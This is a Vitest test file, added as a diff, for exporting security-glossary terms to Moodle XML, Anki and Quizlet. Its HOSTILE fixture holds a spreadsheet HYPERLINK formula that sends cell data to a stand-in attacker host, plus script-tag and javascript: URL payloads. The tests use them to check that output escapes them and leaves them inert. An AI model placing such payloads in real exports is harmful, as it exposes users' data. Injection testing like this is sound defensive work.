@@ -1,0 +1,350 @@
+import * as cheerio from 'cheerio';
+import { SaxesParser } from 'saxes';
+import { describe, expect, test } from 'vitest';
+import { neutraliseFormula } from '../../src/packs/escape.ts';
+import { ANKI_COLUMNS, ankiText, moodleGlossaryXml, quizletText } from '../../src/packs/exports.ts';
+import type { PackTerm } from '../../src/packs/pack-term.ts';
+
+const term = (over: Partial<PackTerm> = {}): PackTerm => ({
+  slug: 'powershell',
+  number: 12,
+  title: 'PowerShell',
+  qualifier: 'ATT&CK technique',
+  category: { slug: 'execution', name: 'Execution' },
+  summary: 'Running commands through the PowerShell interpreter.',
+  aliases: ['pwsh', 'T1059.001'],
+  attack: { id: 'T1059.001', domain: 'enterprise-attack', kind: 'sub-technique' },
+  tactics: ['TA0002'],
+  example: 'powershell -enc <base64>',
+  url: 'https://glossary.example.org/terms/powershell/?ref=pack&lang=en',
+  shortUrl: 'https://glossary.example.org/n/12/',
+  ...over,
+});
+
+// Everything a field could carry to break a format: markup, entities, CDATA ends, quotes, separators, a
+// spreadsheet formula, a control character, a lone surrogate, emoji and non-ASCII letters.
+const HOSTILE = `=HYPERLINK("https://evil.example/?d="&A2,"x") <script>alert(1)</script> & ]]> "dq" 'sq' a\tb\nc\r\nd \u0001\uD800 🔐 Ünïcödé`;
+
+const hostileTerm = (over: Partial<PackTerm> = {}): PackTerm =>
+  term({
+    slug: HOSTILE,
+    title: HOSTILE,
+    qualifier: HOSTILE,
+    category: { slug: HOSTILE, name: HOSTILE },
+    summary: HOSTILE,
+    aliases: [HOSTILE, `${HOSTILE} alias`],
+    attack: { id: HOSTILE, domain: HOSTILE, kind: HOSTILE },
+    tactics: [HOSTILE],
+    example: HOSTILE,
+    ...over,
+  });
+
+// Excel, LibreOffice and Google Sheets run a cell starting with one of these as a formula.
+const RUNS_AS_FORMULA = /^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/;
+// Characters outside XML 1.0's Char production (lone surrogates included, thanks to the u flag).
+const NOT_XML_CHAR = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;
+
+/** The text as it reads once tabs and line breaks are spaces and control characters are gone. */
+const flat = (text: string) => text.replace(/\r\n?/g, '\n').replace(/[\u0001\uD800]/g, '').replace(/[\t\n]/g, ' ');
+
+type Xmlized = { [tag: string]: { '#': string | Xmlized }[] };
+
+/**
+ * The array Moodle's xmlize() (lib/xmlize.php) builds and import.php walks: `$xml['ROOT']['#']`, then for each
+ * child `['TAG'][i]['#']`, which is the text of a leaf or the children of an element that has any. Parsed by a
+ * strict, conformant XML parser, so anything expat would refuse fails the test.
+ */
+function xmlize(xml: string): { [root: string]: { '#': Xmlized } } {
+  const parser = new SaxesParser();
+  const stack: { tag: string; text: string; children: Xmlized; hasChildren: boolean }[] = [];
+  let root: { [root: string]: { '#': Xmlized } } = {};
+  parser.on('opentag', (tag) => {
+    if (stack.length) stack.at(-1)!.hasChildren = true;
+    stack.push({ tag: tag.name, text: '', children: {}, hasChildren: false });
+  });
+  const onText = (text: string) => {
+    if (stack.length) stack.at(-1)!.text += text;
+  };
+  parser.on('text', onText);
+  parser.on('cdata', onText);
+  parser.on('closetag', () => {
+    const frame = stack.pop()!;
+    const value = frame.hasChildren ? frame.children : frame.text;
+    if (stack.length) (stack.at(-1)!.children[frame.tag] ??= []).push({ '#': value });
+    else root = { [frame.tag]: { '#': value as Xmlized } };
+  });
+  parser.write(xml).close();
+  return root;
+}
+
+/** `$node['TAG'][0]['#']` as import.php reads a value: it must be text, not child elements. */
+function text(node: Xmlized, tag: string): string {
+  const value = node[tag]?.[0]?.['#'];
+  if (typeof value !== 'string') throw new Error(`${tag} is ${JSON.stringify(value)}, not text`);
+  return value;
+}
+
+function children(node: Xmlized, tag: string): Xmlized {
+  const value = node[tag]?.[0]?.['#'];
+  if (value === undefined || typeof value === 'string') throw new Error(`${tag} has no child elements`);
+  return value;
+}
+
+/** Every element name in an XML document, to prove content never became an element. */
+function elementNames(xml: string): Set<string> {
+  const names = new Set<string>();
+  const parser = new SaxesParser();
+  parser.on('opentag', (tag) => names.add(tag.name));
+  parser.write(xml).close();
+  return names;
+}
+
+/** The entries exactly as import.php loops over them. */
+function moodleEntries(xml: string): Xmlized[] {
+  const info = children(xmlize(xml)['GLOSSARY']!['#'], 'INFO');
+  return children(info, 'ENTRIES')['ENTRY']!.map((entry) => entry['#'] as Xmlized);
+}
+
+describe('neutraliseFormula', () => {
+  test.each([
+    ['=1+2', "'=1+2"],
+    ['+cmd', "'+cmd"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1)', "'@SUM(1)"],
+    ['＝1+2', "'＝1+2"],
+    ['＋1', "'＋1"],
+    ['－1', "'－1"],
+    ['＠1', "'＠1"],
+    ['  =1+2', "'  =1+2"],
+    ['\t1', "'\t1"],
+    ['\r1', "'\r1"],
+    ['\n1', "'\n1"],
+    ['PowerShell', 'PowerShell'],
+    ['a=b', 'a=b'],
+    ['T1059.001', 'T1059.001'],
+    ['', ''],
+  ])('turns %j into %j', (input, expected) => {
+    expect(neutraliseFormula(input)).toBe(expected);
+  });
+});
+
+describe('moodleGlossaryXml', () => {
+  test('writes the glossary settings import.php reads when it creates a new glossary', () => {
+    const xml = moodleGlossaryXml([term()], { name: 'Week 3: Execution', intro: 'Terms for week 3.' });
+    const info = children(xmlize(xml)['GLOSSARY']!['#'], 'INFO');
+    // Read by import.php without an isset() check, so each must be there.
+    for (const tag of ['NAME', 'GLOBALGLOSSARY', 'INTRO', 'SHOWSPECIAL', 'SHOWALPHABET', 'SHOWALL']) expect(info[tag]).toHaveLength(1);
+    expect(text(info, 'NAME')).toBe('Week 3: Execution');
+    expect(text(info, 'INTRO')).toBe('<p>Terms for week 3.</p>');
+    expect(text(info, 'INTROFORMAT')).toBe('1');
+    expect(text(info, 'DISPLAYFORMAT')).toBe('dictionary');
+    expect(text(info, 'USEDYNALINK')).toBe('1');
+  });
+
+  test('writes each entry where import.php looks for it, with the linking flags set', () => {
+    const [entry] = moodleEntries(moodleGlossaryXml([term()], { name: 'Pack' }));
+    expect(text(entry!, 'CONCEPT')).toBe('PowerShell');
+    expect(text(entry!, 'FORMAT')).toBe('1');
+    expect(text(entry!, 'USEDYNALINK')).toBe('1');
+    expect(text(entry!, 'FULLMATCH')).toBe('1');
+    expect(text(entry!, 'CASESENSITIVE')).toBe('0');
+    expect(text(entry!, 'TEACHERENTRY')).toBe('1');
+    const aliases = children(entry!, 'ALIASES')['ALIAS']!.map((alias) => text(alias['#'] as Xmlized, 'NAME'));
+    expect(aliases).toEqual(['pwsh', 'T1059.001']);
+    const [category] = children(entry!, 'CATEGORIES')['CATEGORY']!.map((c) => c['#'] as Xmlized);
+    expect(text(category!, 'NAME')).toBe('Execution');
+    expect(text(category!, 'USEDYNALINK')).toBe('0');
+    expect(children(entry!, 'TAGS')['TAG']!.map((tag) => tag['#'])).toEqual(['execution', 'T1059.001', 'TA0002']);
+  });
+
+  test('writes a definition that decodes to the intended HTML, linking back to the term page', () => {
+    const [entry] = moodleEntries(moodleGlossaryXml([term()], { name: 'Pack' }));
+    const definition = text(entry!, 'DEFINITION');
+    expect(definition).toBe(
+      '<p>Running commands through the PowerShell interpreter.</p>' +
+        '<p><em>ATT&amp;CK technique</em></p>' +
+        '<p>Example: powershell -enc &lt;base64&gt;</p>' +
+        '<p>MITRE ATT&amp;CK: T1059.001</p>' +
+        '<p>Tactics: TA0002</p>' +
+        '<p>Full entry: <a href="https://glossary.example.org/terms/powershell/?ref=pack&amp;lang=en">PowerShell</a></p>',
+    );
+    expect(cheerio.load(definition)('a').attr('href')).toBe(term().url);
+  });
+
+  test('keeps hostile content as text in every field: no element, no control character, nothing lost', () => {
+    const xml = moodleGlossaryXml([hostileTerm()], { name: HOSTILE, intro: HOSTILE });
+    expect(xml).not.toMatch(NOT_XML_CHAR);
+    expect(elementNames(xml)).toEqual(
+      new Set(['GLOSSARY', 'INFO', 'NAME', 'INTRO', 'INTROFORMAT', 'ALLOWDUPLICATEDENTRIES', 'DISPLAYFORMAT', 'SHOWSPECIAL', 'SHOWALPHABET', 'SHOWALL', 'ALLOWCOMMENTS', 'USEDYNALINK', 'DEFAULTAPPROVAL', 'GLOBALGLOSSARY', 'ENTBYPAGE', 'ENTRIES', 'ENTRY', 'CONCEPT', 'DEFINITION', 'FORMAT', 'CASESENSITIVE', 'FULLMATCH', 'TEACHERENTRY', 'ALIASES', 'ALIAS', 'CATEGORIES', 'CATEGORY', 'TAGS', 'TAG']),
+    );
+    const info = children(xmlize(xml)['GLOSSARY']!['#'], 'INFO');
+    expect(text(info, 'NAME')).toBe(flat(HOSTILE).trim());
+    const [entry] = moodleEntries(xml);
+    expect(text(entry!, 'CONCEPT')).toBe(flat(HOSTILE).trim());
+    const aliases = children(entry!, 'ALIASES')['ALIAS']!.map((alias) => text(alias['#'] as Xmlized, 'NAME'));
+    expect(aliases).toEqual([`${flat(HOSTILE)} alias`]);
+    const [category] = children(entry!, 'CATEGORIES')['CATEGORY']!.map((c) => c['#'] as Xmlized);
+    expect(text(category!, 'NAME')).toBe(flat(HOSTILE).trim());
+
+    // The definition is HTML once decoded; the hostile text must be text in it, and the only link ours.
+    const $ = cheerio.load(text(entry!, 'DEFINITION'));
+    expect(new Set($('body *').map((_, el) => el.tagName).get())).toEqual(new Set(['p', 'em', 'br', 'a']));
+    expect($('script')).toHaveLength(0);
+    expect($('a').map((_, a) => $(a).attr('href')).get()).toEqual([term().url]);
+    expect($('p').first().text()).toBe(HOSTILE.replace(/\r\n?/g, '\n').replace(/[\u0001\uD800]/g, '').replace(/\n/g, ''));
+  });
+
+  test('qualifies a title two picked terms share, and keeps the bare title as a keyword', () => {
+    const entries = moodleEntries(
+      moodleGlossaryXml([term({ aliases: [] }), term({ slug: 'powershell-tool', qualifier: 'Tool', aliases: [] })], { name: 'Pack' }),
+    );
+    expect(entries.map((entry) => text(entry, 'CONCEPT'))).toEqual(['PowerShell (ATT&CK technique)', 'PowerShell (Tool)']);
+    for (const entry of entries) expect(children(entry, 'ALIASES')['ALIAS']!.map((a) => text(a['#'] as Xmlized, 'NAME'))).toEqual(['PowerShell']);
+  });
+
+  test('drops blank and repeated aliases and those equal to the concept', () => {
+    const [entry] = moodleEntries(moodleGlossaryXml([term({ aliases: ['', '  ', 'powershell', 'pwsh', 'PWSH '] })], { name: 'Pack' }));
+    expect(children(entry!, 'ALIASES')['ALIAS']!.map((a) => text(a['#'] as Xmlized, 'NAME'))).toEqual(['pwsh']);
+  });
+
+  test.each([
+    [['Remote Access Trojan', 'RAT'], '1'],
+    [['Component Object Model', 'COM'], '1'],
+    [['ATT&CK'], '1'],
+    [['PowerShell', 'pwsh', 'T1059.001'], '0'],
+  ])('matches %j with CASESENSITIVE %s', ([title, ...aliases], expected) => {
+    const [entry] = moodleEntries(moodleGlossaryXml([term({ title: title!, aliases })], { name: 'Pack' }));
+    expect(text(entry!, 'CASESENSITIVE')).toBe(expected);
+  });
+
+  test('leaves ENTRIES out of an empty pack, as Moodle does', () => {
+    const info = children(xmlize(moodleGlossaryXml([], { name: 'Pack' }))['GLOSSARY']!['#'], 'INFO');
+    expect(info['ENTRIES']).toBeUndefined();
+  });
+
+  test('refuses a pack without a name, which Moodle would refuse too', () => {
+    expect(() => moodleGlossaryXml([term()], { name: ' \u0001 ' })).toThrow(/needs options\.name/);
+  });
+
+  test.each(['javascript:alert(1)', '/terms/powershell/', 'data:text/html,x'])('refuses the term url %j', (url) => {
+    expect(() => moodleGlossaryXml([term({ url })], { name: 'Pack' })).toThrow(/not an absolute http\(s\) URL/);
+  });
+});
+
+/** Anki's reader (ankitects/anki, rslib csv import): tab-separated, and a field starting with `"` is quoted. */
+function readAnkiRow(line: string): string[] {
+  const cells: string[] = [];
+  let i = 0;
+  while (i <= line.length) {
+    if (line[i] === '"') {
+      let cell = '';
+      i++;
+      while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
+        cell += line[i];
+        i += line[i] === '"' ? 2 : 1;
+      }
+      cells.push(cell);
+      i += 2; // closing quote and tab
+    } else {
+      const end = line.indexOf('\t', i);
+      cells.push(line.slice(i, end === -1 ? line.length : end));
+      i = end === -1 ? line.length + 1 : end + 1;
+    }
+  }
+  return cells;
+}
+
+function parseAnki(file: string) {
+  const lines = file.split('\n');
+  expect(lines.pop()).toBe('');
+  const headerLines = lines.filter((line) => line.startsWith('#'));
+  // Headers must come first: Anki stops reading them at the first line that is not one.
+  expect(lines.slice(0, headerLines.length)).toEqual(headerLines);
+  const headers = Object.fromEntries(headerLines.map((line) => [line.slice(1, line.indexOf(':')), line.slice(line.indexOf(':') + 1)]));
+  const rows = lines.slice(headerLines.length).map(readAnkiRow);
+  return { headers, rows };
+}
+
+describe('ankiText', () => {
+  test('declares separator, HTML, note type, deck and tags columns and column names in the header', () => {
+    const { headers } = parseAnki(ankiText([term()], { deck: 'Security::Week 3' }));
+    expect(headers).toEqual({
+      separator: 'tab',
+      html: 'true',
+      notetype: 'Basic',
+      'deck column': '4',
+      'tags column': '5',
+      columns: 'Front\tBack\tLink\tDeck\tTags',
+    });
+  });
+
+  test('writes one note per term with the fields in the declared columns', () => {
+    const { headers, rows } = parseAnki(ankiText([term(), term({ slug: 'b', title: 'Bash', attack: null, tactics: [], example: '' })], { deck: 'Security::Week 3' }));
+    expect(rows).toHaveLength(2);
+    for (const row of rows) expect(row).toHaveLength(headers['columns']!.split('\t').length);
+    const [front, back, link, deck, tags] = rows[0]!;
+    expect(front).toBe('PowerShell (ATT&amp;CK technique)');
+    expect(back).toBe(
+      'Running commands through the PowerShell interpreter.<br><br>Example: powershell -enc &lt;base64&gt;<br><br>' +
+        'MITRE ATT&amp;CK: T1059.001<br><br><a href="https://glossary.example.org/terms/powershell/?ref=pack&amp;lang=en">Full entry: PowerShell</a>',
+    );
+    expect(cheerio.load(link!)('a').attr('href')).toBe(term().url);
+    expect(deck).toBe('Security::Week 3');
+    expect(tags).toBe('execution T1059.001 TA0002');
+    expect(rows[1]![4]).toBe('execution');
+    expect(ANKI_COLUMNS).toEqual(['Front', 'Back', 'Link', 'Deck', 'Tags']);
+  });
+
+  test('keeps every row whole and every field inert with hostile content in all of them', () => {
+    const file = ankiText([hostileTerm(), hostileTerm({ title: '# not a comment' })], { deck: `${HOSTILE} "deck"` });
+    expect(file).not.toMatch(NOT_XML_CHAR);
+    const { headers, rows } = parseAnki(file);
+    expect(rows).toHaveLength(2);
+    for (const row of rows) {
+      expect(row).toHaveLength(headers['columns']!.split('\t').length);
+      for (const cell of row) expect(cell).not.toMatch(RUNS_AS_FORMULA);
+      const [front, back, link] = row;
+      for (const html of [front!, back!, link!]) {
+        const $ = cheerio.load(html);
+        expect($('script')).toHaveLength(0);
+        for (const name of $('body *').map((_, el) => el.tagName).get()) expect(['br', 'a']).toContain(name);
+        expect($('a').map((_, a) => $(a).attr('href')).get().every((href) => href === term().url)).toBe(true);
+      }
+      // Text survives: the leading quote is the spreadsheet guard, the rest decodes to the original.
+      expect(cheerio.load(back!).text()).toContain('<script>alert(1)</script> & ]]> "dq" \'sq\'');
+      expect(cheerio.load(back!).text()).toContain('🔐 Ünïcödé');
+      expect(row[3]).toBe(`'${flat(HOSTILE)} "deck"`);
+      expect(row[4]!.split(' ').every((tag) => /^[\p{L}\p{N}_][\p{L}\p{N}_.-]*$/u.test(tag))).toBe(true);
+    }
+    // A row starting with "#" would be a comment to Anki and vanish.
+    expect(rows[1]![0]!.startsWith('&#35; not a comment (')).toBe(true);
+  });
+
+  test.each([' ', '\u0001', '2024'])('refuses the deck name %j', (deck) => {
+    expect(() => ankiText([term()], { deck })).toThrow(/ankiText (needs options\.deck|got deck)/);
+  });
+});
+
+describe('quizletText', () => {
+  test('writes term, tab, definition, one card per line', () => {
+    expect(quizletText([term(), term({ title: 'Bash', qualifier: '', attack: null })])).toBe(
+      'PowerShell (ATT&CK technique)\tRunning commands through the PowerShell interpreter. (MITRE ATT&CK: T1059.001)\n' +
+        'Bash\tRunning commands through the PowerShell interpreter.',
+    );
+  });
+
+  test('keeps exactly one tab on each line with hostile content, and no formula', () => {
+    const lines = quizletText([hostileTerm(), hostileTerm()]).split('\n');
+    expect(lines).toHaveLength(2);
+    for (const line of lines) {
+      expect(line.split('\t')).toHaveLength(2);
+      expect(line).not.toMatch(NOT_XML_CHAR);
+      for (const field of line.split('\t')) expect(field).not.toMatch(RUNS_AS_FORMULA);
+      expect(line.split('\t')[0]).toBe(`'${flat(HOSTILE)} (${flat(HOSTILE)})`);
+    }
+  });
+
+  test('writes nothing for an empty pack', () => {
+    expect(quizletText([])).toBe('');
+  });
+});
